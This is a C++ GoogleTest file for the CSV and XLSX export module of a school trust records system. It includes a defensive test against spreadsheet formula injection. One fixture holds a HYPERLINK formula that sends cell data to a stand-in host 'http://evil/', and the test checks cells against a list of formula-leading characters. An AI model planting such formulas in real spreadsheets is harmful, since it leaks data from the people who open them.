#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <string>

#include "exchange/csv.h"
#include "exchange/import_fixture.h"

namespace trellis::exchange {
namespace {

using ::testing::Not;
using ::testing::StartsWith;

class ExportTest : public ImportFixture {
 protected:
  void SetUp() override {
    ImportFixture::SetUp();
    for (const auto& [kind, file] : kFiles) Given(kind, file);
  }

  static constexpr std::pair<Kind, std::string_view> kFiles[] = {
      {Kind::kSchools,
       "URN,School name,Phase,Pupils,Postcode\n"
       "140002,\"Hillside High School, Leeds\",Secondary,1180,LS6 2QT\n"
       "140001,Oakfield Primary Academy,Primary,,LS1 4AP\n"},
      {Kind::kBodies,
       "name,kind,school_urn,parent\n"
       "Board of Directors,board,,\n"
       "Audit and Risk,committee,,Board of Directors\n"
       "Oakfield LGB,local_governing_body,140001,\n"},
      {Kind::kPeople,
       "reference,given_name,family_name,email,stage,joined_trust,left_trust\n"
       "S002,Zoë,\"O'Brien \"\"Jo\"\"\",zoe@oak.example,teacher,2020-09-01,\n"
       "S001,Ada,Lovelace,,Established headteacher,01/09/2015,2026-08-31\n"},
      {Kind::kPosts,
       "reference,title,school_urn,body,family,stage,workforce_census_role,fte,key\n"
       "P-HT,Headteacher,140001,,leadership,new_headteacher,Headteacher,1,yes\n"
       "P-T,Teacher,140002,,teaching,,,0.6,no\n"
       "P-CLERK,Clerk to the Board,,Board of Directors,governance,,,0.2,no\n"},
      {Kind::kHoldings,
       "post_reference,person_reference,start,end,contract,fte\n"
       "P-T,S002,2020-09-01,,fixed_term,0.6\n"
       "P-HT,S001,2015-09-01,2026-08-31,,\n"},
      {Kind::kMemberships,
       "body,person_reference,role,term_start,term_end\n"
       "Oakfield LGB,S001,Vice-chair,2015-09-01,2019-08-31\n"},
      {Kind::kLineLinks,
       "manager_reference,report_reference,start,end\n"
       "S001,S002,2020-09-01,\n"},
  };

  // Exports every kind as CSV and imports each file back, expecting every row unchanged.
  void ExpectEveryKindReimportsUnchanged() {
    for (const auto& [kind, file] : kFiles) {
      auto csv = Export(*store_, kind, trust_, Format::kCsv, kToday);
      ASSERT_TRUE(csv) << KindCode(kind) << ": " << csv.error().message;
      EXPECT_THAT(*csv, StartsWith("\xEF\xBB\xBF"));
      auto report = Import(*store_, kind, *csv, Options());
      ASSERT_TRUE(report) << KindCode(kind) << ": " << report.error().message;
      EXPECT_EQ(report->created + report->updated, 0) << KindCode(kind) << "\n" << *csv;
      EXPECT_GT(report->unchanged, 0) << KindCode(kind);
      EXPECT_EQ(report->unchanged, report->rows) << KindCode(kind);
    }
  }
};

TEST_F(ExportTest, EveryKindExportsAndReimportsUnchanged) { ExpectEveryKindReimportsUnchanged(); }

// Records whose text a spreadsheet would run as a formula, in every kind that has text.
constexpr std::pair<Kind, std::string_view> kFormulaLikeFiles[] = {
    {Kind::kSchools,
     "urn,name,phase,local_authority\n"
     "140003,=1+1,-Primary,@Leeds\n"},
    {Kind::kBodies,
     "name,kind,parent\n"
     "@Audit,committee,Board of Directors\n"},
    {Kind::kPeople,
     "reference,given_name,family_name,email\n"
     "=1+1,\"=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\",+Smith,-x@oak.example\n"
     "S003,''=x,''-'y,\n"},  // stores "'=x" and "'-'y" (the file guards them)
    {Kind::kPosts,
     "reference,title,body,family\n"
     "-P1,@Clerk,@Audit,governance\n"},
    {Kind::kHoldings,
     "post_reference,person_reference,start\n"
     "-P1,=1+1,2024-09-01\n"},
    {Kind::kMemberships,
     "body,person_reference,role,term_start\n"
     "@Audit,=1+1,member,2024-09-01\n"},
    {Kind::kLineLinks,
     "manager_reference,report_reference,start\n"
     "S001,=1+1,2024-09-01\n"},
};

TEST_F(ExportTest, CsvWritesTextThatLooksLikeAFormulaBehindAQuote) {
  for (const auto& [kind, file] : kFormulaLikeFiles) {
    auto report = Import(*store_, kind, file, Options());
    ASSERT_TRUE(report) << KindCode(kind) << ": " << report.error().message;
  }
  auto person = store_->FindPersonByReference(trust_, "S003");
  ASSERT_TRUE(person && *person);
  EXPECT_EQ((*person)->given_name, "'=x");  // the import took one quote off, and only one
  EXPECT_EQ((*person)->family_name, "'-'y");

  auto people = Export(*store_, Kind::kPeople, trust_, Format::kCsv, kToday);
  ASSERT_TRUE(people);
  EXPECT_THAT(*people, HasSubstr("\r\n'=1+1,\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\","
                                 "'+Smith,'-x@oak.example,,,\r\n"));
  EXPECT_THAT(*people, HasSubstr("\r\nS003,''=x,''-'y,,"));
  EXPECT_THAT(*people, HasSubstr("\r\nS001,Ada,Lovelace,,"));  // other text as it was

  // No cell of any export starts as a formula would.
  for (const auto& [kind, file] : kFiles) {
    auto csv = Export(*store_, kind, trust_, Format::kCsv, kToday);
    ASSERT_TRUE(csv) << KindCode(kind);
    const auto table = csv::Parse(std::string_view(*csv).substr(3));
    EXPECT_THAT(table.issues, ::testing::IsEmpty());
    for (const auto& record : table.records)
      for (const auto& cell : record)
        EXPECT_THAT(std::string(cell.empty() ? "" : cell.substr(0, 1)),
                    Not(::testing::AnyOf("=", "+", "-", "@", "\t", "\r")))
            << KindCode(kind) << ": " << cell;
  }
  ExpectEveryKindReimportsUnchanged();
}

TEST_F(ExportTest, CsvHasTheImportHeadersAndQuotesWhatNeedsIt) {
  auto csv = Export(*store_, Kind::kPeople, trust_, Format::kCsv, kToday);
  ASSERT_TRUE(csv);
  EXPECT_EQ(*csv,
            "\xEF\xBB\xBF"
            "reference,given_name,family_name,email,stage,joined_trust,left_trust\r\n"
            "S001,Ada,Lovelace,,established_headteacher,2015-09-01,2026-08-31\r\n"
            "S002,Zoë,\"O'Brien \"\"Jo\"\"\",zoe@oak.example,teacher,2020-09-01,\r\n");
  auto schools = Export(*store_, Kind::kSchools, trust_, Format::kCsv, kToday);
  ASSERT_TRUE(schools);
  EXPECT_THAT(*schools, HasSubstr("\r\n140002,\"Hillside High School, Leeds\",Secondary,,Open,"));
  auto posts = Export(*store_, Kind::kPosts, trust_, Format::kCsv, kToday);
  ASSERT_TRUE(posts);
  EXPECT_THAT(*posts, HasSubstr("P-T,Teacher,140002,,teaching,,,0.6,no\r\n"));
  EXPECT_THAT(*posts, HasSubstr("P-CLERK,Clerk to the Board,,Board of Directors,governance"));
}

TEST_F(ExportTest, XlsxIsAWorkbook) {
  for (const auto& [kind, file] : kFiles) {
    auto xlsx = Export(*store_, kind, trust_, Format::kXlsx, kToday);
    ASSERT_TRUE(xlsx) << KindCode(kind) << ": " << xlsx.error().message;
    EXPECT_THAT(*xlsx, StartsWith("PK\x03\x04")) << KindCode(kind);
    EXPECT_GT(xlsx->size(), 1000u);
  }
}

TEST_F(ExportTest, GiasIsImportOnly) {
  auto result = Export(*store_, Kind::kGias, trust_, Format::kCsv, kToday);
  ASSERT_FALSE(result);
  EXPECT_EQ(result.error().code, ErrorCode::kInvalidInput);
}

TEST_F(ExportTest, AnUnknownTrustIsNotFound) {
  auto result = Export(*store_, Kind::kPeople, TrustId(999), Format::kCsv, kToday);
  ASSERT_FALSE(result);
  EXPECT_EQ(result.error().code, ErrorCode::kNotFound);
}

}  // namespace
}  // namespace trellis::exchange
